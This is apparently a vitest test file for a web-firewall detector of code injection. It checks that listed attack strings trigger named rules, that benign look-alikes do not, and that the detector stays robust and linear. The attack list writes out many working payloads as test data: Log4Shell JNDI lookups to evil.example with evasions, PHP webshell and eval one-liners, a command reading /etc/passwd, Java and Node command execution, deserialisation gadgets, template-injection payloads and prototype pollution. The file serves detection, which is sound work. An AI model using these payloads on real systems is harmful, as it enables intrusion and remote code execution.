import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { variants } from "../decode.ts";
import { CODE_RULES, classifyCode, codeDetector } from "./code.ts";

// A guard against super-linear work, not a speed target (those live in bench/): linear code takes a
// few ms on 64 KiB here, quadratic work seconds; the bound leaves room for a loaded CI machine.
const SUPERLINEAR_GUARD_MS = 250;

/** Rules matched at paranoia `pl` or below over every decoded variant, as the engine runs them. */
const rulesAt = (value: string, pl = 1, name = "ARGS:q"): string[] => [
  ...new Set(
    variants(value).flatMap((v) =>
      codeDetector
        .inspect({ name, value: v })
        .filter((d) => d.paranoia <= pl)
        .map((d) => d.rule),
    ),
  ),
];

describe("codeDetector: attacks", () => {
  const attacks: [string, string][] = [
    // Log4Shell and its nested-lookup evasions
    ["${jndi:ldap://evil.example/a}", "code-jndi"],
    ["${jndi:rmi://1.2.3.4:1099/x}", "code-jndi"],
    ["${jndi:dns://x.example}", "code-jndi"],
    ["${JNDI:LDAP://x}", "code-jndi"],
    ["%24%7Bjndi%3Aldap%3A%2F%2Fx%7D", "code-jndi"],
    ["${${lower:j}ndi:ldap://x}", "code-jndi"],
    ["${${upper:j}${upper:n}${lower:d}i:rmi://x}", "code-jndi"],
    ["${${::-j}${::-n}${::-d}${::-i}:ldap://x}", "code-jndi"],
    ["${${env:NOPE:-j}ndi${env:NOPE:-:}ldap://x}", "code-jndi"],
    ["${${lower:${lower:j}}ndi:ldap://x}", "code-jndi"],
    ["${j${k8s:k5:-ND}i:ldap://x}", "code-jndi"],
    ["${${date:'j'}ndi:ldap://x}", "code-jndi"],
    ["Mozilla/5.0 ${ jndi:ldap://x}", "code-jndi"],
    // PHP
    ["<?php system($_GET['c']); ?>", "code-php"],
    ["<?PHP\necho 1;", "code-php"],
    ["<?=`id`?>", "code-php"],
    ["<?= $x ?>", "code-php"],
    ["system('id')", "code-php"],
    ['x;passthru("cat /etc/passwd");', "code-php"],
    ["shell_exec($_POST[x])", "code-php"],
    ["eval(base64_decode('ZWNobyAxOw=='))", "code-php"],
    ["@eval($_REQUEST['x'])", "code-php"],
    ["assert($_GET[a])", "code-php"],
    ["EVAL /**/ (gzinflate(x))", "code-php"],
    ["preg_replace('/.*/e', 'system(\"id\")', '')", "code-php"],
    ["phpinfo()", "code-php"],
    ["file_put_contents('s.php', $_POST['c'])", "code-php"],
    ["$a(1)", "code-php"],
    ["$__['o'](5)", "code-php"],
    ["${'a'}(11)", "code-php"],
    ["$GLOBALS['cf908275'](14)", "code-php"],
    ["@$__[o](4)", "code-php"],
    ["<?=1?>", "code-php"],
    ["system(whoami)", "code-php"],
    ["exec #comment\r\n (blah)", "code-php"],
    ["exec\t/*foo\r\nbar*/\t ($x)", "code-php"],
    ["pfsockopen('foo', 25)", "code-php"],
    ["posix_getpwuiD('foo', 25)", "code-php"],
    ["I don't like gzuncompress/*comment*/()", "code-php"],
    ["get_defined_vars()[0]", "code-php"],
    // Java
    ["java.lang.Runtime.getRuntime().exec('id')", "code-java"],
    ['new ProcessBuilder("id").start()', "code-java"],
    ["Class.forName('java.lang.Runtime')", "code-java"],
    ["(#_memberAccess=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS)", "code-java"],
    ["java.lang.Runtime", "code-java"],
    ["<java.io.FileOutputStream>", "code-java"],
    ["java.ProcessBuilder", "code-java"],
    ["org.apache.commons.collections.functors.InvokerTransformer", "code-java"],
    ["ProcessBuilder.evil.whileclosure", "code-java"],
    ["com.sun.rowset.JdbcRowSetImpl", "code-java"],
    // Node.js
    ["require('child_process').exec('id')", "code-node"],
    ['require("child_process")', "code-node"],
    ["process.mainModule.require('fs')", "code-node"],
    ["global.process.exit()", "code-node"],
    ["this.constructor.constructor('return process')()", "code-node"],
    ["child_process.execSync('id')", "code-node"],
    ["require ( 'vm' ).runInNewContext(x)", "code-node"],
    ["this.constructor.constructor", "code-node"],
    ["#{require.main.constructor._load(foo).readdirSync(foo2)}", "code-node"],
    ['process["mainModule"]', "code-node"],
    ["{'get':'$3:constructor:constructor'}", "code-node"],
    ["eval(String.fromCharCode(97,108))", "code-php"],
    ['("system")("whoami")', "code-php"],
    ["'system'('id')", "code-php"],
    ["(system)(whoami)", "code-php"],
    ["<? echo 'hello'; ?>", "code-php"],
    ["${jndi:ldap://x}".replace("{", "&LBRACE;"), "code-jndi"],
    ["{\"rce\":\"_$$ND_FUNC$$_function(){require('child_process').exec('id')}()\"}", "code-deserialization"],
    ["XyQkTkRfRlVOQyQkXwo=", "code-deserialization"],
    ["while(true);", "code-node"],
    ["while(!![]);", "code-node"],
    ["while (new Date);", "code-node"],
    ["while(!'');", "code-node"],
    ["while(+Infinity);", "code-node"],
    ["d2hpbGUodHJ1ZSk7Cg==", "code-node"],
    ["@{[system 'id']}", "code-perl"],
    ['@{    [    system    "id"    ]    }', "code-perl"],
    // Prototype pollution in values
    ["__proto__[isAdmin]=true", "code-prototype-pollution"],
    ['{"__proto__":{"admin":true}}', "code-prototype-pollution"],
    ["a.__proto__.b=1", "code-prototype-pollution"],
    ["constructor.prototype.isAdmin=1", "code-prototype-pollution"],
    ["constructor[prototype][x]=1", "code-prototype-pollution"],
    ['{"constructor": {"prototype": {"x": 1}}}', "code-prototype-pollution"],
    ["%5F%5Fproto%5F%5F[x]=1", "code-prototype-pollution"],
    // Deserialisation
    ["rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA", "code-deserialization"],
    ["aced0005737200116a617661", "code-deserialization"],
    ["%ac%ed%00%05sr", "code-deserialization"],
    ['O:8:"stdClass":1:{s:1:"a";i:1;}', "code-deserialization"],
    ['a=O:4:"Evil":0:{}', "code-deserialization"],
    ['{"$type":"System.Windows.Data.ObjectDataProvider, PresentationFramework"}', "code-deserialization"],
    ['{"__type":"System.Configuration.Install.AssemblyInstaller"}', "code-deserialization"],
    ["cos\nsystem\n(S'id'\ntR.", "code-deserialization"],
    ["c__builtin__\neval\n", "code-deserialization"],
    ["!!python/object/apply:os.system ['id']", "code-deserialization"],
    [
      '!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ["http://x/"]]]]',
      "code-deserialization",
    ],
    ["--- !ruby/object:Gem::Installer", "code-deserialization"],
    // Template injection
    ["{{7*7}}", "code-template-injection"],
    ["{{ 7*'7' }}", "code-template-injection"],
    ["${7*7}", "code-template-injection"],
    ["#{7*7}", "code-template-injection"],
    ["<%= 7*7 %>", "code-template-injection"],
    ["{{config}}", "code-template-injection"],
    ["{{config.__class__.__init__.__globals__['os'].popen('id').read()}}", "code-template-injection"],
    ["{{''.__class__.__mro__[1].__subclasses__()}}", "code-template-injection"],
    ["{{ ''|attr('\\x5f\\x5fclass\\x5f\\x5f') }}", "code-template-injection"],
    ["{{self._TemplateReference__context.cycler.__init__}}", "code-template-injection"],
    ["{{lipsum.__globals__.os.popen('id').read()}}", "code-template-injection"],
    ["${T(java.lang.Runtime).getRuntime().exec('id')}", "code-template-injection"],
    ["#{''.getClass().forName('java.lang.Runtime')}", "code-template-injection"],
    ["*{T(java.lang.Runtime).getRuntime().exec('id')}", "code-template-injection"],
    ["<%= system('id') %>", "code-template-injection"],
    ["<%= `id` %>", "code-template-injection"],
    ['<#assign ex="freemarker.template.utility.Execute"?new()>${ex("id")}', "code-template-injection"],
    ["#set($x='')#set($rt=$x.class.forName('java.lang.Runtime'))", "code-template-injection"],
    ["#set($s=$x.getClass())", "code-template-injection"],
    ["{{_self.env.registerUndefinedFilterCallback('exec')}}", "code-template-injection"],
    ["{{['id']|filter('system')}}", "code-template-injection"],
    ["{php}echo `id`;{/php}", "code-template-injection"],
    ["{% if True %}49{% endif %}", "code-template-injection"],
    ["<%= if True %>49<% endif %>", "code-template-injection"],
    ["%7B%7B7*7%7D%7D", "code-template-injection"],
    ["hello {{ {{7*7}}", "code-template-injection"],
  ];
  it.each(attacks)("%s → %s", (value, rule) => {
    expect(rulesAt(value)).toContain(rule);
  });

  it("prototype pollution in target names", () => {
    expect(
      codeDetector.inspect({ name: "ARGS_JSON_NAMES:__proto__.admin", value: "true" }).map((d) => d.rule),
    ).toEqual(["code-prototype-pollution"]);
    expect(classifyCode("1", "ARGS_NAMES:constructor[prototype][admin]")).toEqual([
      "code-prototype-pollution",
    ]);
    expect(classifyCode("1", "ARGS_JSON_NAMES:constructor.prototype.admin")).toEqual([
      "code-prototype-pollution",
    ]);
    expect(classifyCode("1", "ARGS_JSON_NAMES:constructor")).toEqual([]);
    expect(classifyCode("1", "ARGS_JSON_NAMES:proto")).toEqual([]);
    expect(classifyCode("test", "ARGS:java.io.File")).toEqual(["code-java"]);
  });

  it("leaves stream wrappers to the LFI detector", () => {
    expect(rulesAt("php://input")).toEqual([]);
  });

  it("reports PL2 rules only at PL2", () => {
    expect(rulesAt("{{1+1}}")).toEqual([]);
    expect(rulesAt("{{1+1}}", 2)).toContain("code-template-expression");
    expect(rulesAt("${9-2}", 2)).toContain("code-template-expression");
  });

  it("tags and severities come from the rule table", () => {
    const [d] = codeDetector.inspect({ name: "ARGS:q", value: "${jndi:ldap://x/a}" });
    expect(d).toEqual({
      rule: "code-jndi",
      tags: ["attack-injection-java", "log4shell"],
      paranoia: 1,
      severity: "critical",
      target: "ARGS:q",
    });
    for (const r of Object.values(CODE_RULES)) {
      expect([1, 2]).toContain(r.paranoia);
      expect(r.tags.length).toBeGreaterThan(0);
    }
  });
});

describe("codeDetector: benign look-alikes at PL1", () => {
  const benign = [
    "Hello {{user.name}}, you have {{count}} new messages",
    "{{#each items}}<li>{{this}}</li>{{/each}}",
    "{{> header}} {{{body}}}",
    "Total: ${price} (incl. ${tax})",
    "`${a}-${b}`",
    "use the eval function carefully",
    "Never call eval() on user input in PHP",
    "The operating system (Linux) is fine",
    "an assert(x > 0) in the test",
    "$x = base64_decode($input);",
    "const app = require('express')();",
    "db.exec('select 1')",
    '{"proto": "tcp", "constructor": "Acme Corp"}',
    "constructor",
    "the constructor's prototype chain",
    "the __proto__ property is deprecated",
    "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==",
    '<?xml version="1.0"?><a/>',
    "O'Brien",
    "Order no: 12*4 pieces",
    "c:\\users\\docs",
    "Email me @(work) please",
    "50% off <%= price %>",
    "{% if user %}Hi{% endif %}",
    "#{user.firstName}",
    "cost = 7*7",
    "system: ok",
    "The $type field names the shape",
    "java.util.List",
    "while (i < 10) i++;",
    "while(done)",
    "while(!true);",
    "while(0)",
    "while(!!'')",
    "jQuery: $('#id').hide(); $.ajax(url)",
    "Price: ${price} (incl. tax)",
    "see https://example.com/#top (home)",
    "the operating system (OS) and system(s)",
    "java.runtime.version=21",
    "the bank's forclosure notice",
    "process.env.NODE_ENV",
  ];
  it.each(benign)("%s", (value) => {
    expect(rulesAt(value)).toEqual([]);
  });
});

describe("codeDetector: robustness", () => {
  it("never throws", () => {
    fc.assert(
      fc.property(fc.string({ maxLength: 300 }), fc.string({ maxLength: 40 }), (s, n) => {
        codeDetector.inspect({ name: n, value: s });
      }),
      { numRuns: 300 },
    );
    const alphabet = fc.constantFrom(
      "${",
      "}",
      "{{",
      "}}",
      "<?",
      "(",
      "'",
      "__proto__",
      "o:",
      ":",
      '"',
      "j",
      ":-",
      " ",
    );
    fc.assert(
      fc.property(fc.array(alphabet, { maxLength: 80 }), (parts) => {
        codeDetector.inspect({ name: "ARGS:x", value: parts.join("") });
      }),
      { numRuns: 300 },
    );
  });
  it("stays linear on adversarial input", () => {
    const units = [
      "${",
      "${a:-",
      "${${",
      "{{",
      "{{7*",
      "<?",
      "<?=",
      "system(",
      "eval((",
      "__proto__",
      "constructor.",
      'o:9:"',
      "$type",
      "#set(",
      "<#assign",
      "preg_replace('",
      "require('",
      "rO0AB",
      "/*",
      "<%",
      "@(",
      "a",
      "#",
      "$a[",
      "${'",
      "while(",
      "//x\n",
      "java.lang.",
      ":-}",
      "{%",
      "gzinflate/*",
      "exec /*",
      "&lbrace",
      "while(!",
    ];
    const inputs = units.map((u) => u.repeat(Math.ceil(65536 / u.length)).slice(0, 65536));
    for (const v of inputs) codeDetector.inspect({ name: "ARGS:x", value: v }); // warm-up
    for (const v of inputs) {
      // Best of three, so a busy machine does not fail the test; quadratic work would take seconds.
      let best = Infinity;
      for (let k = 0; k < 3; k++) {
        const t0 = performance.now();
        codeDetector.inspect({ name: "ARGS:x", value: v });
        best = Math.min(best, performance.now() - t0);
      }
      expect(best).toBeLessThan(SUPERLINEAR_GUARD_MS);
    }
  });
});
